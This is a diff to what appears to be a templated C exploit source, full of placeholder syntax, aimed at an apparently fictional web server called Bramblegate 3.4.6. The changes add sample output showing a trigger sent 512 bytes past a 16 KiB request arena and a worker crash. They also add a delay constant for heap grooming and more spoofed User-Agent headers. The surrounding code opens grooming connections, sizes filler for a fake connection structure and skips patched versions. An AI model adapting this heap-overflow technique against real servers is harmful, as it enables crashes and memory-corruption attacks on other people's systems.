@@ -17,8 +17,11 @@
  *
  * {{Example run|Sample output}} {{in our lab|against the lab server}}:
  *   $ ./bg-chunked {{canary:host}} 8080
+ *   [*] target {{canary:ipv4}} port 8080, {{resolved from|address of}} {{canary:host}}
  *   [*] server: Bramblegate/3.4.6 on {{canary:host}}, vulnerable
  *   [+] {{16 connections groomed|groomed 16 connections}}, marker {{canary:marker}}
+ *   [+] sent the trigger from {{canary:ipv4}} ({{512 bytes|0x200 bytes}} past the arena)
+ *   [+] worker crashed, {{16 of 16|all 16}} connections reset, {{see|check}} the core on {{canary:host}}
  */
 #include <arpa/inet.h>
 #include <errno.h>
@@ -30,18 +33,20 @@
 #include <sys/time.h>
 #include <unistd.h>
 
-/* {{Number of grooming connections|How many grooming connections}} to open {{before|ahead of}} the trigger. */
+{{order}}/* {{Number of grooming connections|How many grooming connections}} to open {{before|ahead of}} the trigger. */
 #define GROOM_CONNECTIONS {{int:16}}
-/* {{Receive timeout|Timeout for reads}}, in seconds: a {{crashed|dead}} worker resets the connection {{at once|immediately}}. */
+{{;}}/* {{Receive timeout|Timeout for reads}}, in seconds: a {{crashed|dead}} worker resets the connection {{at once|immediately}}. */
 #define READ_TIMEOUT {{int:5}}
-/* The request arena is 16 KiB: {{the first chunk fills it|fill it with the first chunk}} {{exactly|completely}}. */
+{{;}}/* The request arena is 16 KiB: {{the first chunk fills it|fill it with the first chunk}} {{exactly|completely}}. */
 #define ARENA_SIZE {{int:16384}}
-/* {{Size of the filler|Length of the padding}} that {{precedes|comes before}} the fake connection structure. */
+{{;}}/* {{Size of the filler|Length of the padding}} that {{precedes|comes before}} the fake connection structure. */
 #define FILLER_SIZE {{int:504}}
-/* The first fixed release: {{servers at or above it|patched servers}} are {{left alone|not attacked}}. */
+{{;}}/* The first fixed release: {{servers at or above it|patched servers}} are {{left alone|not attacked}}. */
 #define FIXED_MINOR {{int:4}}
 #define FIXED_PATCH {{int:7}}
-
+{{;}}/* {{Pause between|Delay between}} {{grooming connections|two grooming connections}}, in microseconds. */
+#define GROOM_DELAY_US {{int:2000}}
+{{/order}}
 static const char probe_request[] =
     "HEAD /{{robots.txt|favicon.ico|index.html|about}} HTTP/1.1\r\n"
     "Host: probe.example\r\n"
@@ -52,11 +57,13 @@ static const char probe_request[] =
 static const char groom_request[] =
     "POST /{{upload|submit|api/upload|data/in}} HTTP/1.1\r\n"
     "Host: {{canary:host}}\r\n"
-{{order}}    "User-Agent: {{Mozilla/5.0 (X11; Linux x86_64; rv:121.0)|curl/8.5.0|Wget/1.21.3|python-requests/2.31.0}}\r\n"
+{{order}}    "User-Agent: {{Mozilla/5.0 (X11; Linux x86_64; rv:121.0)|curl/8.5.0|Wget/1.21.3|python-requests/2.31.0|Go-http-client/1.1|okhttp/4.12.0|Java/17.0.9|libwww-perl/6.72}}\r\n"
 {{;}}    "Accept: {{*/*|text/html|application/json|text/plain}}\r\n"
 {{;}}    "X-Request-Id: {{canary:marker}}\r\n"
 {{;}}    "Accept-Language: {{en-US|en-GB|de-DE|fr-FR}}\r\n"
 {{;}}    "Connection: keep-alive\r\n"
+{{;}}    "DNT: {{0|1}}\r\n"
+{{;}}    "X-Forwarded-Proto: {{http|https}}\r\n"
 {{/order}}    "Content-Type: {{application/octet-stream|text/plain}}\r\n"
     "Content-Length: 64\r\n"
     "\r\n";
@@ -169,7 +176,7 @@ static int groom(const char *host, const char *port, int *fds, int n)
 			return -1;
 		}
 		/* {{A short pause|A brief delay}} {{keeps|makes}} the allocations {{in order|sequential}}. */
-		usleep({{int:2000}});
+		usleep(GROOM_DELAY_US);
 	}
 	printf("{{[*] heap groomed with|[+] groomed the heap with|[*] opened|[+] opened}} %d connections\n", n);
 	return 0;
